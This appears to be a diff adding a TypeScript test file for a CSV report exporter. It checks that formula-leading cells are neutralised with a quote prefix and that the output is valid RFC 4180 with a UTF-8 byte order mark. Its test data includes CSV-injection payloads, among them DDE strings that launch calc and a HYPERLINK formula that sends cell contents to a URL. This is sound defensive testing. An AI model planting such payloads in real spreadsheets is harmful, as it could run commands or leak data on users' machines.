@@ -1,0 +1,116 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { csv, defused } from "../../../../lib/reports/formats/csv.ts";
+import type { Report } from "../../../../lib/reports/model.ts";
+import { bridgeReport } from "../../../support/bridge-report.ts";
+import { reportFullOf } from "../hostile-report.ts";
+import { HOSTILE_STRINGS } from "../hostile-strings.ts";
+
+const MARK = "\uFEFF";
+
+function rendered(report: Report): string {
+  return [...csv.render(report)].join("");
+}
+
+/** Reads RFC 4180, no more: quoted cells, CRLF between and after records. Throws on anything else. */
+function parse(file: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let at = 0;
+  while (at < file.length) {
+    const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
+    cell.lastIndex = at;
+    const [whole, text, end] = cell.exec(file) ?? [];
+    if (whole === undefined || text === undefined) throw new Error(`no quoted cell at ${at}`);
+    record.push(text.replaceAll('""', '"'));
+    if (end === "\r\n") {
+      records.push(record);
+      record = [];
+    }
+    at = cell.lastIndex;
+  }
+  return records;
+}
+
+describe("a cell that would begin a formula is defused", () => {
+  test.each([
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.org/?"&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tx",
+    "\rx",
+    " =1+1",
+    "   \u00A0=1+1",
+    "\u3000=1+1",
+    "\u200B=1+1",
+    "\uFEFF=1+1",
+    "\u0000=1+1",
+    "\u202E=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    " ＝1+1",
+    "=",
+    "-",
+    "– =1".slice(2),
+  ])("%j", (cell) => {
+    expect(defused(cell)).toBe(`'${cell}`);
+  });
+
+  test.each(["1+1=2", "It rose by -4 %.", "a@example.org", "", " text", "'=1+1", "(1) =1+1", "“=1+1”", "— dash"])(
+    "%j is left alone",
+    (cell) => {
+      expect(defused(cell)).toBe(cell);
+    },
+  );
+});
+
+describe("the csv export", () => {
+  test("begins with the byte order mark Excel needs to read UTF-8", () => {
+    expect(Buffer.from(rendered(bridgeReport()), "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  });
+
+  test("is RFC 4180: a header and one record a claim, all of one width", () => {
+    const [header, ...records] = parse(rendered(bridgeReport()).slice(MARK.length));
+    expect(header?.slice(0, 3)).toEqual(["sentence", "text", "state"]);
+    expect(new Set(header).size).toBe(header?.length);
+    expect(records).toHaveLength(bridgeReport().claims.length);
+    for (const record of records) expect(record).toHaveLength(header?.length ?? 0);
+  });
+
+  test("numbers the entries of a cell when there are several", () => {
+    const [header, ...records] = parse(rendered(bridgeReport()).slice(MARK.length));
+    const cell = (sentence: number, column: string) => records[sentence - 1]?.[header?.indexOf(column) ?? -1];
+    expect(cell(9, "verdicts")).toBe("(1) Mixed\n(2) Refuted");
+    expect(cell(9, "reviewers")).toBe("(1) Ada Quill\n(2) Ben Ledger");
+    expect(cell(8, "verdicts")).toBe("Refuted");
+    expect(cell(8, "sources")).toBe("Closing account of the bridge project");
+    expect(cell(16, "verdicts")).toBe("");
+  });
+
+  test("lets no text out of its cell and no formula into one", () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: fc.constantFrom(...'",\r\n=+-@ a＝') })),
+        (text) => {
+          const [header, ...records] = parse(rendered(reportFullOf(text)).slice(MARK.length));
+          expect(records).toHaveLength(12);
+          for (const record of records) {
+            expect(record).toHaveLength(header?.length ?? 0);
+            for (const cell of record) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
+          }
+          expect(records[0]?.[header?.indexOf("document") ?? -1]?.replace(/^'/, "")).toBe(text.replace(/^'/, ""));
+        },
+      ),
+      { seed: 1965, numRuns: 200 },
+    );
+  });
+});
